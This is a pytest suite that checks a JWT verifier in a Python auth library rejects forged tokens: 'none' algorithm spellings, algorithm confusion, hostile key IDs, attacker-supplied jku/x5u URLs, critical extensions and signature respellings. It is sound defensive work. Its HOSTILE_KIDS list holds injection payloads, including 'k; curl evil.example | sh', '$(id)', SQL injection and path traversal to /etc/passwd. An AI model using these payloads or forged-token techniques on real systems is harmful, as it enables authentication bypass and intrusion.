"""Tokens as an attacker makes them: other algorithms, other keys, other spellings, other places to get keys from."""

from __future__ import annotations

import itertools
import json
from pathlib import Path
from typing import Any

import pytest
import trio
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from tests.unit.tokens.material import (
    ALL,
    AUDIENCE,
    ISSUER,
    NOW,
    POLICY,
    SECRET,
    certificate,
    claims,
    clock,
    ec_key,
    forge,
    jwk,
    pair,
    private_pem,
    public_pem,
    rsa_key,
    spell,
)
from tests.unit.tokens.test_keys import public_forms
from trio_router.auth.jwt import JwtStrategy, JwtType
from trio_router.auth.jwt_options import JwtOptions
from trio_router.auth.services import HttpAnswer
from trio_router.auth.strategy import Accepted, Denied, NotMine
from trio_router.errors import TokenInvalid
from trio_router.secret import Secret
from trio_router.testing.strategies import login_request, services
from trio_router.tokens.compact import MAX_TOKEN, decode_part, parse
from trio_router.tokens.jwt import JoseVerifier, Key, sign
from trio_router.tokens.keys import public_jwk, public_key, shared_secret

URL = "https://issuer.example/keys"
OTHER = "https://other.example"


class Spy:
    """Answers with one key set per URL and remembers every URL it was asked for."""

    def __init__(self, sets: dict[str, list[Any]]) -> None:
        self.sets = sets
        self.urls: list[str] = []

    async def request(self, method: str, url: str, **_: Any) -> HttpAnswer:
        self.urls.append(url)
        await trio.lowlevel.checkpoint()
        return HttpAnswer(200, {}, json.dumps({"keys": self.sets[url]}).encode())


def verified(token: object, key: Key) -> bool:
    try:
        return JoseVerifier(clock()).verify(token, key, POLICY).subject == "ada"
    except TokenInvalid:
        return False


def by_url(
    spy: Spy, url: str = URL, issuer: str = ISSUER, algorithms: tuple[str, ...] = ("RS256", "ES256")
) -> JwtStrategy:
    options = JwtOptions(issuer=issuer, audience=AUDIENCE, algorithms=list(algorithms), jwks_url=url)
    return JwtType().build(options, services(Path(), clock=clock(), outbound=spy))


# No algorithm

SPELLINGS = sorted({"".join(letters) for letters in itertools.product(*((c, c.upper()) for c in "none"))})
SPELLINGS += [
    "",
    " none",
    "none ",
    "n\u043ene",
    "nonE\x00",
    "null",
    "HS256 ",
    "hs256",
    "Hs256",
    "HS1",
    "HS256\n",
    "RS256,none",
]


@pytest.mark.threat("T37")
@pytest.mark.parametrize("algorithm", ["HS256", "RS256", "ES256"])
@pytest.mark.parametrize("spelling", SPELLINGS)
def test_no_spelling_of_none_is_an_algorithm(algorithm: str, spelling: str) -> None:
    signing, key = pair(algorithm)
    _, body, signature = sign(claims(), signing).split(".")
    header = spell(json.dumps({"alg": spelling, "typ": "JWT"}).encode())
    for last in ("", signature, "AA", spell(b"none")):
        assert not verified(f"{header}.{body}.{last}", key)
    assert not verified(f"{header}.{body}", key)


@pytest.mark.threat("T37")
@pytest.mark.parametrize("alg", [None, [], ["HS256"], {"HS256": 1}, 0, False, True, ...])
def test_an_algorithm_that_is_no_text_is_none(alg: Any) -> None:
    _, key = pair("HS256")
    header = {} if alg is ... else {"alg": alg}
    assert not verified(forge(header, claims(), SECRET + b"0"), key)


@pytest.mark.threat("T37")
@pytest.mark.parametrize("algorithm", ALL)
def test_an_empty_or_cut_signature_is_none(algorithm: str) -> None:
    signing, key = pair(algorithm)
    head, body, signature = sign(claims(), signing).split(".")
    assert verified(f"{head}.{body}.{signature}", key)
    whole = decode_part(signature)
    for cut in (
        "",
        spell(whole[:1]),
        spell(whole[:-1]),
        spell(whole + b"\0"),
        spell(b"\0" + whole),
        spell(bytes(len(whole))),
    ):
        assert not verified(f"{head}.{body}.{cut}", key)


# The wrong kind of key


def verifying_keys(algorithm: str) -> dict[str, Key]:
    """One key however it may be configured, with every algorithm allowed: the worst configuration there could be."""
    private = rsa_key() if algorithm == "RS256" else ec_key()
    return {
        "PEM": public_key(public_pem(private), ALL, name="PEM"),
        "JWK": public_jwk(jwk(private), ALL, name="JWK"),
        "JWK with alg": public_jwk(jwk(private, alg=algorithm), ALL, name="JWK"),
    }


@pytest.mark.threat("T38")
@pytest.mark.parametrize("hs", ["HS256", "HS384", "HS512"])
@pytest.mark.parametrize("algorithm", ["RS256", "ES256"])
def test_what_is_public_about_a_key_signs_nothing(algorithm: str, hs: str) -> None:
    digest = hs.replace("HS", "sha")
    private = rsa_key() if algorithm == "RS256" else ec_key()
    numbers = private.public_key().public_numbers()
    forms = {
        **public_forms(algorithm),
        "empty": b"",
        "zero": b"\0",
        "numbers": str(numbers).encode(),
        "JWK member": jwk(private).get("n", jwk(private).get("x", "")).encode(),
        "certificate fingerprint": certificate(algorithm).signature,
    }
    for material in forms.values():
        for header in ({"alg": hs}, {"alg": hs, "kid": "k"}, {"alg": algorithm}):
            token = forge(header, claims(), material, digest)
            for key in verifying_keys(algorithm).values():
                assert not verified(token, key)


@pytest.mark.threat("T38")
@pytest.mark.parametrize("signer", ALL)
@pytest.mark.parametrize("verifier", ALL)
def test_a_key_verifies_its_own_algorithm_only(signer: str, verifier: str) -> None:
    token = sign(claims(), pair(signer)[0])
    _, key = pair(verifier)
    assert verified(token, key) == (signer == verifier)


@pytest.mark.threat("T38")
@pytest.mark.parametrize("algorithm", ALL)
def test_a_header_that_lies_about_the_algorithm_does_not_help(algorithm: str) -> None:
    signing, _ = pair("HS256")
    _, body, signature = sign(claims(), signing).split(".")
    header = spell(json.dumps({"alg": algorithm}).encode())
    for other in ALL:
        assert not verified(f"{header}.{body}.{signature}", pair(other, number=1)[1])


@pytest.mark.threat("T38")
@pytest.mark.threat("T47")
@pytest.mark.parametrize(
    "secret", ['["alpha","beta"]', '{"kty":"oct","k":"YWFh"}', '{"keys":[]}', '{"one":"secret","two":"secret"}']
)
def test_a_secret_is_never_read_as_several_keys(secret: str) -> None:
    with pytest.raises(ValueError, match="must not serve"):
        shared_secret(Secret(secret + " " * 60), ["HS256"], name="main")


# The wrong key


@pytest.mark.threat("T39")
async def test_two_issuers_that_use_the_same_kid_stay_apart() -> None:
    urls = {URL: [jwk(rsa_key(), kid="k")], OTHER: [jwk(rsa_key(number=1), kid="k")]}
    ours, theirs = Spy(urls), Spy(urls)
    first, second = by_url(ours), by_url(theirs, OTHER, OTHER)
    for number, issuer, strategy, stranger in ((0, ISSUER, first, second), (1, OTHER, second, first)):
        good = sign(claims(iss=issuer), pair("RS256", "k", number)[0])
        forged = sign(claims(iss=issuer), pair("RS256", "k", 1 - number)[0])
        assert isinstance(await strategy.start(login_request({"token": good})), Accepted)
        assert await strategy.start(login_request({"token": forged})) == Denied("signature")
        assert await stranger.start(login_request({"token": good})) == NotMine()
    assert (set(ours.urls), set(theirs.urls)) == ({URL}, {OTHER})


HOSTILE_KIDS = [
    "../../../../dev/null",
    "/proc/self/environ",
    "file:///etc/passwd",
    "https://evil.example/jwks.json",
    "k' UNION SELECT 'secret' --",
    "k; curl evil.example | sh",
    "$(id)",
    "{{7*7}}",
    "%s%n",
    "__class__",
    "K",
    "k ",
]


@pytest.mark.threat("T39")
@pytest.mark.parametrize("kid", HOSTILE_KIDS)
async def test_a_kid_is_nothing_but_a_name(kid: str) -> None:
    spy = Spy({URL: [jwk(rsa_key(), kid="k"), jwk(ec_key(), kid="e")]})
    strategy = by_url(spy)
    token = sign(claims(), pair("RS256")[0], kid=kid)
    assert await strategy.start(login_request({"token": token})) == Denied("key")
    assert spy.urls == [URL]


@pytest.mark.threat("T39")
@pytest.mark.parametrize(
    "members",
    [{"use": "enc"}, {"alg": "RS512"}, {"alg": "ES256"}, {"key_ops": ["encrypt"]}, {"kty": "EC"}, {"kty": "oct"}],
)
async def test_a_key_for_something_else_is_not_used(members: dict[str, Any]) -> None:
    spy = Spy({URL: [jwk(rsa_key(), kid="k", **members), jwk(ec_key(), kid="e")]})
    token = sign(claims(), pair("RS256", "k")[0])
    assert await by_url(spy).start(login_request({"token": token})) == Denied("key")


@pytest.mark.threat("T39")
async def test_a_token_without_a_kid_does_not_get_every_key_tried() -> None:
    spy = Spy({URL: [jwk(rsa_key(), kid="a"), jwk(rsa_key(number=1), kid="b")]})
    for number in (0, 1):
        token = sign(claims(), pair("RS256", number=number)[0])
        assert await by_url(spy).start(login_request({"token": token})) == Denied("key")


# Keys and URLs inside the token


def hostile_headers() -> list[dict[str, Any]]:
    evil = "https://evil.example/keys"
    own = jwk(rsa_key(number=1), kid="k")
    chain = [spell(certificate("RS256").tbs_certificate_bytes)]
    return [
        {"jku": evil},
        {"x5u": evil},
        {"jwk": own},
        {"x5c": chain},
        {"jku": evil, "jwk": own, "x5u": evil, "x5c": chain},
        {"jku": URL},
        {"kid": evil},
    ]


@pytest.mark.threat("T40")
@pytest.mark.parametrize("extra", hostile_headers(), ids=range(7))
@pytest.mark.parametrize(
    "issuer", [ISSUER, "https://evil.example", "https://issuer.example@evil.example", "file:///etc"]
)
async def test_no_url_and_no_key_comes_from_a_token(extra: dict[str, Any], issuer: str) -> None:
    spy = Spy({URL: [jwk(rsa_key(), kid="k")]})
    strategy = by_url(spy)
    header = {"alg": "RS256", "kid": "k", **extra}
    text = ".".join(
        spell(json.dumps(part).encode())
        for part in (header, claims(iss=issuer, aud=[AUDIENCE, "https://evil.example"]))
    )
    token = f"{text}.{spell(pair('RS256', number=1)[0].handle.sign(text.encode()))}"
    answer = await strategy.start(login_request({"token": token}))
    assert isinstance(answer, Denied | NotMine)
    assert set(spy.urls) <= {URL}
    if extra != {"kid": "https://evil.example/keys"}:
        assert answer == Denied("header")
        assert spy.urls == []


# Extensions that change what a token means


@pytest.mark.threat("T41")
@pytest.mark.parametrize(
    "extra",
    [
        {"crit": ["exp"]},
        {"crit": ["b64"], "b64": False},
        {
            "crit": ["http://example.invalid/UNDEFINED"],
            "http://example.invalid/UNDEFINED": True,
        },  # RFC 7515, appendix E
        {"crit": []},
        {"crit": "exp"},
        {"crit": None},
        {"b64": True},
        {"b64": False},
        {"zip": "DEF"},
    ],
)
def test_a_critical_extension_is_never_ignored(extra: dict[str, Any]) -> None:
    _, key = pair("HS256")
    good = forge({"alg": "HS256"}, claims(), SECRET + b"0")
    assert verified(good, key)
    with pytest.raises(TokenInvalid, match="header"):
        JoseVerifier(clock()).verify(forge({"alg": "HS256", **extra}, claims(), SECRET + b"0"), key, POLICY)


# Encrypted tokens


@pytest.mark.threat("T42")
@pytest.mark.parametrize("alg", ["dir", "RSA-OAEP", "RSA1_5", "A256KW", "PBES2-HS256+A128KW", "HS256", "RS256"])
async def test_an_encrypted_token_is_refused_whatever_it_says(alg: str) -> None:
    header = {"alg": alg, "enc": "A256GCM", "zip": "DEF", "p2c": 2_000_000_000, "p2s": "c2FsdA"}
    parts = [spell(json.dumps(header).encode()), "QUJD", "QUJD", "QUJD" * 1_000, "QUJD"]
    spy = Spy({URL: [jwk(rsa_key(), kid="k")]})
    assert await by_url(spy).start(login_request({"token": ".".join(parts)})) == Denied("malformed")
    three = ".".join([parts[0], spell(json.dumps(claims()).encode()), "QUJD"])
    assert await by_url(spy).start(login_request({"token": three})) == Denied("header")
    assert spy.urls == []


# Spellings


def respellings(token: str) -> set[str]:
    """Texts that a lenient reader could take for ``token``."""
    found = {token + tail for tail in ("=", "==", ".", "\n", " ", "\0", "A", "..", "#", "%3D")}
    found |= {head + token for head in ("\n", " ", "\0", ".", "\ufeff", "Bearer ", '"')}
    found |= {token.replace("-", "+"), token.replace("_", "/"), token.swapcase(), token.upper(), f'"{token}"'}
    parts = token.split(".")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    for place, part in enumerate(parts):

        def join(other: str, place: int = place) -> str:
            return ".".join([*parts[:place], other, *parts[place + 1 :]])

        found |= {join(part[:-1] + letter) for letter in alphabet}
        found |= {join(part + "=" * count) for count in (1, 2, 3)}
        for junk in ("!", "\n", " ", "\r\n", "@@@@", "\u00ad", "==", "\0"):
            found |= {join(part[:at] + junk + part[at:]) for at in (0, 1, len(part) // 2, len(part))}
    return found - {token}


@pytest.mark.threat("T46")
@pytest.mark.parametrize("algorithm", ALL)
def test_a_token_has_one_spelling(algorithm: str) -> None:
    signing, key = pair(algorithm)
    token = sign(claims(), signing)
    assert verified(token, key)
    accepted = [text for text in respellings(token) if verified(text, key)]
    assert accepted == []


@pytest.mark.threat("T46")
@pytest.mark.parametrize("algorithm", ["ES256", "ES384", "ES512"])
def test_the_second_signature_that_ecdsa_always_has_carries_the_same_token_id(algorithm: str) -> None:
    """(r, -s) verifies like (r, s), by the mathematics: so a token is revoked by its ``jti`` and never by its text."""
    signing, key = pair(algorithm)
    head, body, signature = sign(claims(jti="revoked"), signing).split(".")
    raw = decode_part(signature)
    half = len(raw) // 2
    order = {
        "ES256": 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
        "ES384": 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
        "ES512": 2**521 - 657877501894328237357444332315020117536923257219387276263472201219398408051703,
    }[algorithm]
    twin = spell(raw[:half] + (order - int.from_bytes(raw[half:], "big")).to_bytes(half, "big"))
    assert twin != signature
    found = [JoseVerifier(clock()).verify(f"{head}.{body}.{text}", key, POLICY) for text in (signature, twin)]
    assert [one.token_id for one in found] == ["revoked", "revoked"]


@pytest.mark.threat("T46")
def test_an_ec_signature_in_der_is_not_a_second_spelling() -> None:
    private = ec_key()
    signing, key = pair("ES256")
    text = sign(claims(), signing).rpartition(".")[0]
    der = private.sign(text.encode(), ec.ECDSA(hashes.SHA256()))
    assert not verified(f"{text}.{spell(der)}", key)
    r, s = decode_dss_signature(der)
    assert verified(f"{text}.{spell(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}", key)
    assert not verified(f"{text}.{spell(r.to_bytes(33, 'big') + s.to_bytes(33, 'big'))}", key)


@pytest.mark.threat("T43")
def test_the_largest_token_is_small() -> None:
    assert MAX_TOKEN == 8_192
    _, key = pair("HS256")
    for size in (MAX_TOKEN, 100_000, 5_000_000):
        assert not verified(forge({"alg": "HS256"}, claims(filler="x" * size), SECRET + b"0"), key)


@pytest.mark.threat("T45")
def test_a_token_that_is_nearly_valid_yields_nothing() -> None:
    _, key = pair("HS256")
    token = sign(claims(exp=NOW - 60), pair("HS256")[0])
    with pytest.raises(TokenInvalid) as caught:
        JoseVerifier(clock()).verify(token, key, POLICY)
    assert caught.value.args == ("expired",)
    assert caught.value.__cause__ is None
    assert not hasattr(parse(token), "expires_at")


@pytest.mark.threat("T38")
def test_a_private_key_is_not_taken_where_a_public_one_belongs() -> None:
    with pytest.raises(ValueError, match="private key"):
        public_key(private_pem(rsa_key()), ALL, name="main")
